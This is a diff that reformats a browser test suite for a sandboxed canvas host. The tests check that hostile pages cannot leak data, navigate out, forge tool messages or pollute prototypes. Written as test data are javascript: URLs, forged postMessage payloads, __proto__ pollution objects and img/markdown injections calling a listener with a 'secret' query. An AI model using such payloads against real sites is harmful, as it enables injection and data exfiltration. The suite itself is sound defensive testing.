@@ -102,7 +102,9 @@ async def test_a_canvas_reads_nothing_of_its_host(page: Page, server: EaselProce
 
 @case("U9")
 @rule("CV-05")
-async def test_a_canvas_brings_no_sign_in_to_the_api_by_any_way(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_a_canvas_brings_no_sign_in_to_the_api_by_any_way(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     forged = json.dumps({"method": "canvas.delete", "params": {"canvasId": "x"}})
     name = hostile(desk, f"""
         window.tried = 0; const ways = [
@@ -118,7 +120,9 @@ async def test_a_canvas_brings_no_sign_in_to_the_api_by_any_way(page: Page, serv
         wire.answers.clear()
         await page.goto(f"{wire.base_url}/canvas/main/{name}")
         await expect(page.locator("#link")).to_have_text("connected")
-        await expect(page.locator("#stage .left")).to_be_visible()  # it tried to go away, and its place is taken
+        await expect(
+            page.locator("#stage .left")
+        ).to_be_visible()  # it tried to go away, and its place is taken
         await asyncio.sleep(LEAK_SECONDS)
         asked = [one.target for one in wire.answers]
     ours = ("/ui/", "/canvas/main/", "/canvas-view/", "/ws", "/healthz")
@@ -132,14 +136,27 @@ async def test_a_canvas_brings_no_sign_in_to_the_api_by_any_way(page: Page, serv
 
 @case("U2")
 @rule("RS-58")
-async def test_nothing_that_a_canvas_tries_reaches_another_port(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_nothing_that_a_canvas_tries_reaches_another_port(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     # A page that nobody holds in gets out by nearly all of these: they are ways, and a listener hears them.
-    async with listening() as listener, unprotected(f"{EMPTY}<script>{script(QUIET, listener)}</script>") as address:
+    async with (
+        listening() as listener,
+        unprotected(f"{EMPTY}<script>{script(QUIET, listener)}</script>") as address,
+    ):
         free = await page.context.new_page()
         await free.goto(address)
         await holds(free.main_frame, "window.hasTried")
         # What Chromium itself does not do here: it looks nothing up in advance for a test, and its headless window has no icon.
-        idle = {"preconnect", "dns-prefetch", "icon", "ping", "speculation", "fetch-keepalive", "modulepreload"}
+        idle = {
+            "preconnect",
+            "dns-prefetch",
+            "icon",
+            "ping",
+            "speculation",
+            "fetch-keepalive",
+            "modulepreload",
+        }
         await desk.until(lambda: set(QUIET) - listener.ways() <= idle, "all the ways out")
         await free.close()
     async with listening() as listener:
@@ -157,7 +174,9 @@ OTHERS = tuple(way for way in QUIET if way not in RTC)
 
 @case("U2")
 @pytest.mark.parametrize("ways", [RTC, OTHERS], ids=["WebRTC", "all others"])
-async def test_neither_does_what_a_frame_inside_of_it_tries(page: Page, server: EaselProcess, desk: Desk, ways: tuple[str, ...]) -> None:
+async def test_neither_does_what_a_frame_inside_of_it_tries(
+    page: Page, server: EaselProcess, desk: Desk, ways: tuple[str, ...]
+) -> None:
     """A frame inside has a world of its own: whatever the SDK takes out of the page's is whole there. (Chromium ends who tries WebRTC so.)"""
     async with listening() as listener:
         name = hostile(desk, "")
@@ -186,14 +205,21 @@ async def test_neither_does_what_a_frame_inside_of_it_tries(page: Page, server: 
 
 @case("U2")
 @pytest.mark.parametrize("way", LEAVING)
-async def test_a_canvas_cannot_go_where_it_wants(page: Page, server: EaselProcess, desk: Desk, way: str) -> None:
+async def test_a_canvas_cannot_go_where_it_wants(
+    page: Page, server: EaselProcess, desk: Desk, way: str
+) -> None:
     async with listening() as listener:
         # It says that it tries, by a message that no page may send: a second after that the host puts it on record.
-        name = hostile(desk, "parent.postMessage({kind: 'leaving'}, '*');" + script({way: LEAVING[way]}, listener))
+        name = hostile(
+            desk, "parent.postMessage({kind: 'leaving'}, '*');" + script({way: LEAVING[way]}, listener)
+        )
         await sign_in(page.context, server)
         await page.goto(f"{server.base_url}/canvas/main/{name}")
         await expect(page.locator("#link")).to_have_text("connected")
-        await desk.until(lambda: any(one.get("detail") == "leaving" for one in desk.audit("canvas.page.refused", name)), "it has tried")
+        await desk.until(
+            lambda: any(one.get("detail") == "leaving" for one in desk.audit("canvas.page.refused", name)),
+            "it has tried",
+        )
         assert listener.heard == []
         assert len(page.context.pages) == 1
         assert page.url == f"{server.base_url}/canvas/main/{name}"
@@ -204,20 +230,29 @@ async def test_a_page_reaches_the_origins_that_its_policy_lists_and_works_as_any
     page: Page, server: EaselProcess, desk: Desk
 ) -> None:
     """Each origin stands in two headers, and one that a browser cannot read would cut off everything."""
-    policy = {**COCKPIT["toolPolicy"], "connect": ["https://api.example.com:8443", "wss://xn--bcher-kva.example"]}
+    policy = {
+        **COCKPIT["toolPolicy"],
+        "connect": ["https://api.example.com:8443", "wss://xn--bcher-kva.example"],
+    }
     name = desk.make(MINIMAL, {**COCKPIT, "toolPolicy": policy})
     frame = await show(page, server, name)
-    await (await the_frame(page)).evaluate("for (const port of [8443, 8444]) fetch(`https://api.example.com:${port}/x`).catch(() => {})")
+    await (await the_frame(page)).evaluate(
+        "for (const port of [8443, 8444]) fetch(`https://api.example.com:${port}/x`).catch(() => {})"
+    )
     await expect(page.locator("#notes-list")).to_contain_text("https://api.example.com:8444/x")
     await expect(page.locator("#notes-list")).not_to_contain_text("8443")
     await frame.get_by_text("Refresh Logs").click()
     await expect(frame.locator("pre")).to_have_text("journal of api")
 
 
-async def test_a_page_that_left_its_place_can_be_shown_again(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_a_page_that_left_its_place_can_be_shown_again(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     name = desk.make(f"{EMPTY}<p data-gsv-text=state.service></p><script src=index.js></script>")
     desk.put(
-        name, "assets/index.js", "addEventListener('click', () => { location.href = 'https://example.com/' }); document.body.id = 'ready'"
+        name,
+        "assets/index.js",
+        "addEventListener('click', () => { location.href = 'https://example.com/' }); document.body.id = 'ready'",
     )
     frame = await show(page, server, name)
     await frame.locator("#ready").click()
@@ -233,7 +268,9 @@ SCHEMES = ["javascript:parent.document.body.remove()", "JaVaScRiPt:top.x=1", " j
 
 @case("U6")
 @rule("RS-58")
-async def test_no_address_leads_a_canvas_out_whatever_its_scheme(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_no_address_leads_a_canvas_out_whatever_its_scheme(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     links = "".join(f'<a id="l{number}"></a>' for number in range(len(SCHEMES)))
     addresses = ", ".join(f'"{one}"' for one in (scheme.replace('"', "'") for scheme in SCHEMES))
     name = desk.make(f"{EMPTY}{links}<script src=index.js></script>")
@@ -263,7 +300,9 @@ LISTENS = """addEventListener('message', ({data}) => {
 
 @case("U5")
 @rule("CV-05")
-async def test_a_forged_request_for_a_tool_is_refused_and_on_record(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_a_forged_request_for_a_tool_is_refused_and_on_record(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     name = hostile(desk, LISTENS)
     await show(page, server, name)
     frame = await the_frame(page)
@@ -276,18 +315,24 @@ async def test_a_forged_request_for_a_tool_is_refused_and_on_record(page: Page, 
         {"kind": "__proto__"},
         {"kind": "constructor"},
     ):
-        await frame.evaluate("(forged) => parent.postMessage({gsv: 1, nonce, id: 'f', ...forged}, '*')", forged)
+        await frame.evaluate(
+            "(forged) => parent.postMessage({gsv: 1, nonce, id: 'f', ...forged}, '*')", forged
+        )
         await holds(frame, "window.answered?.id === 'f'")
         assert await frame.evaluate("answered.error.code") == 403
         await frame.evaluate("answered = null")
     await expect(page.locator("#notes-list")).to_contain_text("asked for something that no page may")
-    await desk.until(lambda: any(one["what"] == "kind" for one in desk.audit("canvas.page.refused", name)), "the record")
+    await desk.until(
+        lambda: any(one["what"] == "kind" for one in desk.audit("canvas.page.refused", name)), "the record"
+    )
     assert desk.records(name) == []
     assert desk.state(name)["service"] == "api"
 
 
 @case("U5")
-async def test_a_message_that_is_not_this_page_s_is_not_heard(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_a_message_that_is_not_this_page_s_is_not_heard(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     """From a frame inside of the page, with a wrong nonce or an old one, and from the shell's own window: none of them runs an action."""
     action = "{gsv: 1, kind: 'action', id: 'x', actionId: 'setDeploying', input: {}, nonce: "
     name = hostile(desk, LISTENS)
@@ -309,7 +354,10 @@ async def test_a_message_that_is_not_this_page_s_is_not_heard(page: Page, server
     await frame.evaluate(f"parent.postMessage({action} {json.dumps(old)}}}, '*')")
     await page.evaluate(f"postMessage({action} {json.dumps(old)}}}, '*')")
     told = await desk.until(
-        lambda: {one["what"] for one in desk.audit("canvas.page.refused", name)} >= {"source", "nonce"} or None, "the records"
+        lambda: (
+            {one["what"] for one in desk.audit("canvas.page.refused", name)} >= {"source", "nonce"} or None
+        ),
+        "the records",
     )
     assert told
     assert desk.records(name) == []
@@ -332,7 +380,9 @@ HEAVY = {
 
 @case("U5")
 @pytest.mark.parametrize("heavy", HEAVY)
-async def test_a_message_that_is_too_heavy_is_dropped(page: Page, server: EaselProcess, desk: Desk, heavy: str) -> None:
+async def test_a_message_that_is_too_heavy_is_dropped(
+    page: Page, server: EaselProcess, desk: Desk, heavy: str
+) -> None:
     name = hostile(desk, LISTENS)
     await show(page, server, name)
     frame = await the_frame(page)
@@ -340,15 +390,20 @@ async def test_a_message_that_is_too_heavy_is_dropped(page: Page, server: EaselP
     await frame.evaluate(
         f"parent.postMessage({{gsv: 1, nonce, kind: 'action', id: 'x', actionId: 'setDeploying', input: {{ heavy: {HEAVY[heavy]} }} }}, '*')"
     )
-    await desk.until(lambda: any(one["what"] == "size" for one in desk.audit("canvas.page.refused", name)), "the record")
-    assert desk.records(name) == []
-    assert await frame.evaluate("gsvCanvas.runAction('setDeploying').then((answer) => answer.status)") == "completed", (
-        "all the rest works on"
+    await desk.until(
+        lambda: any(one["what"] == "size" for one in desk.audit("canvas.page.refused", name)), "the record"
     )
+    assert desk.records(name) == []
+    assert (
+        await frame.evaluate("gsvCanvas.runAction('setDeploying').then((answer) => answer.status)")
+        == "completed"
+    ), "all the rest works on"
 
 
 @case("U5", "R4")
-async def test_ten_thousand_messages_in_a_second_are_a_handful_for_the_host(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_ten_thousand_messages_in_a_second_are_a_handful_for_the_host(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     name = hostile(desk, LISTENS)
     await show(page, server, name)
     frame = await the_frame(page)
@@ -402,15 +457,23 @@ async def test_names_of_prototypes_lead_nowhere(page: Page, server: EaselProcess
         await frame.locator("input[data-gsv-model]").nth(number).fill("polluted")
     await frame.get_by_text("Go").click()
     await desk.until(lambda: (desk.state(name).get("said") or {}).get("result") == "w/", "the form's action")
-    assert await (await the_frame(page)).evaluate("({}).polluted === undefined && Object.prototype.x === undefined")
+    assert await (await the_frame(page)).evaluate(
+        "({}).polluted === undefined && Object.prototype.x === undefined"
+    )
     assert await page.evaluate("({}).polluted === undefined")
     assert set(desk.state(name)) == {*COCKPIT["state"], "hosts", "said"}
 
 
 @case("X7")
-async def test_what_a_tool_brings_under_names_of_prototypes_is_only_data(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_what_a_tool_brings_under_names_of_prototypes_is_only_data(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     """A result cannot be refused as a state is that somebody writes."""
-    evil = {"__proto__": {"polluted": "x", "toString": "y"}, "constructor": {"prototype": {"polluted": "x"}}, "hasOwnProperty": 1}
+    evil = {
+        "__proto__": {"polluted": "x", "toString": "y"},
+        "constructor": {"prototype": {"polluted": "x"}},
+        "hasOwnProperty": 1,
+    }
     bring = {"kind": "tool.call", "tool": "gsv__Echo", "args": {"value": evil}}
     spec = {
         "version": 1,
@@ -430,11 +493,15 @@ async def test_what_a_tool_brings_under_names_of_prototypes_is_only_data(page: P
         frame = await show(page, server, name)
         for button in ("Bring", "Merge", "List"):
             await frame.get_by_role("button", name=button).click()
-        await desk.until(lambda name=name: {"kept", "merged", "list"} <= desk.state(name).keys(), "all results")
+        await desk.until(
+            lambda name=name: {"kept", "merged", "list"} <= desk.state(name).keys(), "all results"
+        )
         await expect(frame.locator("pre:visible").first).to_contain_text('"__proto__"')
         inside = await the_frame(page)
         await holds(inside, "gsvCanvas.getState().list?.length === 1 && 'merged' in gsvCanvas.getState()")
-        assert await inside.evaluate("Object.hasOwn(gsvCanvas.getState().kept.result, '__proto__')"), "as it came"
+        assert await inside.evaluate("Object.hasOwn(gsvCanvas.getState().kept.result, '__proto__')"), (
+            "as it came"
+        )
         clean = "({}).polluted === undefined && [].polluted === undefined && `${{}}` === '[object Object]' && typeof Object.prototype.hasOwnProperty === 'function'"
         for place in (inside, page):
             assert await place.evaluate(clean)
@@ -478,15 +545,23 @@ async def test_a_page_that_an_agent_wrote_answers_no_question_and_stops_nothing_
     await show(page, server, name)
 
     def has_tried(event_id: str) -> bool:
-        return any(one["detail"] == event_id for one in desk.audit("canvas.page.refused", name) if one["what"] == "stop")
+        return any(
+            one["detail"] == event_id
+            for one in desk.audit("canvas.page.refused", name)
+            if one["what"] == "stop"
+        )
 
     asked = desk.rpc("canvas.action", canvasId=name, actionId="ask")["confirmationId"]
     await desk.until(lambda: has_tried(asked), "it tries to refuse, and that is on record")
     assert [one["status"] for one in desk.records(name)] == ["asked"], "it waits for the person"
     ended = await asyncio.to_thread(desk.rpc, "canvas.confirm", confirmationId=asked, approve=True)
     assert ended["status"] == "completed", "what they have confirmed runs to its end"
-    pressing = asyncio.create_task(asyncio.to_thread(desk.rpc, "canvas.action", canvasId=name, actionId="long"))
-    event_id = (await desk.until(lambda: [one for one in desk.records(name) if one["status"] == "running"], "it runs"))[0]["eventId"]
+    pressing = asyncio.create_task(
+        asyncio.to_thread(desk.rpc, "canvas.action", canvasId=name, actionId="long")
+    )
+    event_id = (
+        await desk.until(lambda: [one for one in desk.records(name) if one["status"] == "running"], "it runs")
+    )[0]["eventId"]
     await desk.until(lambda: has_tried(event_id), "it tries to stop it")
     assert desk.records(name)[0]["status"] == "running"
     await expect(page.locator("#notes-list")).to_contain_text("tried to stop what it has not started")
@@ -496,21 +571,29 @@ async def test_a_page_that_an_agent_wrote_answers_no_question_and_stops_nothing_
 
 
 @rule("RS-59", "CV-05")
-async def test_a_page_stops_what_it_started_itself_and_the_next_page_does_not(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_a_page_stops_what_it_started_itself_and_the_next_page_does_not(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     name = desk.make(MINIMAL, DEPLOY)
-    await desk.as_agent(operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>first</p>"})
+    await desk.as_agent(
+        operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>first</p>"}
+    )
     await show(page, server, name)
     frame = await the_frame(page)
     stop = "gsvCanvas.cancelAction(%s).then(({ status }) => status, ({ code }) => code)"
 
     async def pressed() -> str:
         await frame.evaluate("void gsvCanvas.runAction('long').catch(() => {})")
-        [one] = await desk.until(lambda: desk.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs")
+        [one] = await desk.until(
+            lambda: desk.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs"
+        )
         return json.dumps(one["eventId"])
 
     assert await frame.evaluate(stop % await pressed()) == "cancelled"
     event_id = await pressed()
-    await desk.as_agent(operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>second</p>"})
+    await desk.as_agent(
+        operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>second</p>"}
+    )
     await expect(inside(page).locator("p")).to_have_text("second")
     frame = await the_frame(page)
     assert await frame.evaluate(stop % event_id) == 403, "another page has started it"
@@ -525,17 +608,25 @@ async def test_a_page_that_a_person_stands_for_stops_whatever_runs_and_answers_n
     await show(page, server, name)
     frame = await the_frame(page)
     asked = desk.rpc("canvas.action", canvasId=name, actionId="ask")["confirmationId"]
-    refuse = f"gsvCanvas.cancelAction({json.dumps(asked)}).then(({{ status }}) => status, ({{ name }}) => name)"
+    refuse = (
+        f"gsvCanvas.cancelAction({json.dumps(asked)}).then(({{ status }}) => status, ({{ name }}) => name)"
+    )
     assert await frame.evaluate(refuse) == "NOT_RUNNING"
     await frame.evaluate("void gsvCanvas.runAction('ask')")
     await expect(page.locator("#consent")).to_be_visible()
     mine = next(one["eventId"] for one in desk.records(name))
-    assert await frame.evaluate(refuse.replace(asked, mine)) == "NOT_RUNNING", "nor what it has asked for itself"
+    assert await frame.evaluate(refuse.replace(asked, mine)) == "NOT_RUNNING", (
+        "nor what it has asked for itself"
+    )
     await expect(page.locator("#consent")).to_be_visible()
     assert [one["status"] for one in desk.records(name)] == ["asked", "asked"]
     await page.locator("#consent-refuse").click()
-    running = asyncio.create_task(asyncio.to_thread(desk.rpc_any, "canvas.action", canvasId=name, actionId="long"))
-    [one] = await desk.until(lambda: desk.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs")
+    running = asyncio.create_task(
+        asyncio.to_thread(desk.rpc_any, "canvas.action", canvasId=name, actionId="long")
+    )
+    [one] = await desk.until(
+        lambda: desk.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs"
+    )
     await frame.evaluate(f"gsvCanvas.cancelAction({json.dumps(one['eventId'])})")
     assert (await running)["error"]["name"] == "CANCELLED"
 
@@ -544,7 +635,9 @@ async def test_a_page_that_a_person_stands_for_stops_whatever_runs_and_answers_n
 
 
 @case("P5")
-async def test_what_a_tool_brings_is_text_everywhere_and_fetches_nothing(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_what_a_tool_brings_is_text_everywhere_and_fetches_nothing(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     async with listening() as listener:
         evil = f'![x](http://{listener.address}/?q=secret) <img src="http://{listener.address}/img" onerror="parent.x=1"> <script>top.x=1</script> http://{listener.address}/auto [go](javascript:x)'
         spec = {
@@ -571,7 +664,9 @@ async def test_what_a_tool_brings_is_text_everywhere_and_fetches_nothing(page: P
             await expect(frame.locator("pre:visible").first).to_contain_text(evil)
             assert await frame.locator("img, a").count() == 0
             assert await page.locator("#stage ~ * img, header img, dialog img").count() == 0
-        broken = desk.make(f"{EMPTY}<b data-gsv-action='![x](http://{listener.address}/y)<img src=http://{listener.address}/z>'></b>")
+        broken = desk.make(
+            f"{EMPTY}<b data-gsv-action='![x](http://{listener.address}/y)<img src=http://{listener.address}/z>'></b>"
+        )
         await show(page, server, broken)
         await expect(page.locator("#notes-list")).to_contain_text("<img src=")
         assert await page.locator("#notes img").count() == 0
@@ -580,7 +675,9 @@ async def test_what_a_tool_brings_is_text_everywhere_and_fetches_nothing(page: P
         assert await page.evaluate("window.x === undefined")
 
 
-async def test_a_value_that_a_page_puts_where_html_is_meant_runs_nothing(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_a_value_that_a_page_puts_where_html_is_meant_runs_nothing(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     """The author's mistake, and the page's policy bears it: only scripts that came with the page run."""
     name = desk.make(
         f"{EMPTY}<div id=here></div><script>gsvCanvas.subscribe((state) => {{ here.innerHTML = state.service }}); window.inline = true</script>"
@@ -604,7 +701,9 @@ async def test_a_value_that_a_page_puts_where_html_is_meant_runs_nothing(page: P
 
 
 @case("U8")
-async def test_no_other_site_can_frame_the_host_or_a_view(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_no_other_site_can_frame_the_host_or_a_view(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     name = desk.make(MINIMAL)
     await show(page, server, name)
     view = (await the_frame(page)).url
@@ -614,15 +713,25 @@ async def test_no_other_site_can_frame_the_host_or_a_view(page: Page, server: Ea
         other = await page.context.new_page()
         await other.goto(address)
         assert len(other.frames) == 1 + len(addresses)
-        await desk.until(lambda: all(one.url.startswith("chrome-error:") for one in other.frames[1:]), "none of them is shown")
+        await desk.until(
+            lambda: all(one.url.startswith("chrome-error:") for one in other.frames[1:]),
+            "none of them is shown",
+        )
 
 
-async def test_a_view_that_is_opened_by_itself_is_as_opaque(page: Page, server: EaselProcess, desk: Desk) -> None:
+async def test_a_view_that_is_opened_by_itself_is_as_opaque(
+    page: Page, server: EaselProcess, desk: Desk
+) -> None:
     name = desk.make(f"{EMPTY}<p data-gsv-text=state.service>nothing</p>")
     await show(page, server, name)
     view = (await the_frame(page)).url
     alone = await page.context.new_page()
     await alone.goto(view)
     assert await alone.evaluate("self.origin") == "null"
-    assert await alone.evaluate("(() => { try { return document.cookie } catch (problem) { return problem.name } })()") == "SecurityError"
+    assert (
+        await alone.evaluate(
+            "(() => { try { return document.cookie } catch (problem) { return problem.name } })()"
+        )
+        == "SecurityError"
+    )
     await expect(alone.locator("p")).to_have_text("")
